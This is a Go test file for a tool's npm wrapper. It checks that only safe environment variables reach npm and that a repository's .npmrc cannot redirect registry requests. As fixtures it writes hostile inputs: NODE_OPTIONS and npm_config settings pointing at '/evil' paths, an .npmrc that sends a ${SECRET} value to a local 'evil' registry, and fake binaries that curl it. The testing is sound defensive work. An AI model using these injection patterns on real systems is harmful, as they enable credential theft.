package program

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/livepeer/naap-dev/internal/scripttest"
)

func TestNpmIsToldTheWayToTheRegistryAndWhatThePersonsOwnFileNames(t *testing.T) {
	p := newPlace(t)
	scripttest.Write(t, p.tools+"/npm", "")
	write(t, p.home+"/.npmrc", "//registry.corp/:_authToken=${CORP_TOKEN}\n# ${COMMENTED}\nx=${MAYBE?}${NODE_OPTIONS}\n")
	environ := []string{
		"HOME=" + p.home, "CORP_TOKEN=t", "COMMENTED=c", "MAYBE=m", "AWS_SECRET_ACCESS_KEY=secret", "NODE_OPTIONS=--require=/evil.js",
		"npm_config_registry=https://corp/", "NPM_CONFIG_CAFILE=/ca.pem", "npm_config_strict-ssl=false", "npm_config_//corp/:_authToken=t", "npm_config_@a:registry=https://a/",
		"npm_config_node_options=--require=/evil.js", "npm_config_script_shell=/evil", "npm_config_git=/evil", "npm_config_ignore_scripts=false",
		"npm_config_globalconfig=" + p.repository + "/.npmrc", "npm_config_userconfig=" + p.repository + "/.npmrc", "npm_config_prefix=/evil",
		"npm_config_cache=" + p.repository + "/cache", "npm_config_onload_script=/evil.js", "npm_config_editor=/evil", "NODE_PATH=/evil",
	}
	f := Here()
	f.Path, f.Environ = p.tools, environ
	cmd, err := f.RunNpm(t.Context(), t.TempDir(), "pack")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"HOME=" + p.home, "npm_config_registry=https://corp/", "NPM_CONFIG_CAFILE=/ca.pem", "npm_config_strict-ssl=false",
		"npm_config_//corp/:_authToken=t", "npm_config_@a:registry=https://a/", "CORP_TOKEN=t", "MAYBE=m",
	}
	if !slices.Equal(cmd.Env, want) {
		t.Errorf("npm is told %q, want %q", cmd.Env, want)
	}
	// Where a repository's own script runs naap, npm's settings are the repository's.
	f.Environ = append(environ, "npm_lifecycle_event=dev")
	if cmd, err = f.RunNpm(t.Context(), t.TempDir(), "pack"); err != nil || slices.ContainsFunc(cmd.Env, func(kv string) bool { return strings.HasPrefix(strings.ToLower(kv), "npm_config_") }) {
		t.Errorf("as a script of npm's it is told %q, %v", cmd.Env, err)
	}
}

// The real npm, a repository with an .npmrc that sends a variable's value away, and folders above naap's own that have
// one too: only the user's is read.
func TestARepositorysNpmrcIsNotRead(t *testing.T) {
	if _, err := Here().Find(Npm); err != nil {
		t.Skip(err)
	}
	for _, set := range os.Environ() { // the shell's own would say where npm connects
		if name, _, _ := strings.Cut(set, "="); strings.HasPrefix(strings.ToLower(name), "npm_config_") {
			t.Setenv(name, "")
			os.Unsetenv(name)
		}
	}
	path := os.Getenv("PATH")
	p := newPlace(t)
	var mu sync.Mutex
	var asked []string
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked = append(asked, r.URL.Path+" "+r.Header.Get("Authorization"))
		mu.Unlock()
		http.NotFound(w, r)
	}))
	defer registry.Close()
	at := strings.TrimPrefix(registry.URL, "http:")
	evil := "registry=" + registry.URL + "/evil/${SECRET}/\n" + "@scope:registry=" + registry.URL + "/evil/${SECRET}/\n" + at + "/:_authToken=${SECRET}\n"
	write(t, p.repository+"/.npmrc", evil)
	write(t, p.repository+"/package.json", "{}")
	above := filepath.Join(p.tools, "cache")
	write(t, above+"/.npmrc", evil)
	write(t, above+"/package.json", "{}")
	write(t, above+"/node_modules/x/package.json", "{}")
	write(t, p.home+"/.npmrc", "registry="+registry.URL+"/mine/\n"+at+"/mine/:_authToken=${MINE}\n")
	t.Setenv("SECRET", "s3cret")
	t.Setenv("MINE", "m1ne")
	t.Setenv("npm_config_fetch_retries", "0")
	t.Setenv("PATH", p.repository+"/bin:.:"+path)
	scripttest.Write(t, p.repository+"/bin/npm", "curl -s "+registry.URL+"/evil/ran")
	scripttest.Write(t, p.repository+"/bin/node", "curl -s "+registry.URL+"/evil/ran")
	dir := filepath.Join(above, "work")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"pack", "@scope/package@1.0.0"}, {"view", "@scope/package@1.0.0", "version"}} {
		cmd, err := Here().RunNpm(t.Context(), dir, args...)
		if err != nil {
			t.Fatal(err)
		}
		out, _ := cmd.CombinedOutput()
		if len(asked) == 0 {
			t.Errorf("npm %v asked nobody: %s", args, out)
		}
	}
	for _, a := range asked {
		if !strings.HasPrefix(a, "/mine/") || !strings.HasSuffix(a, "Bearer m1ne") || strings.Contains(a, "s3cret") {
			t.Errorf("it was asked for %s", a)
		}
	}
}
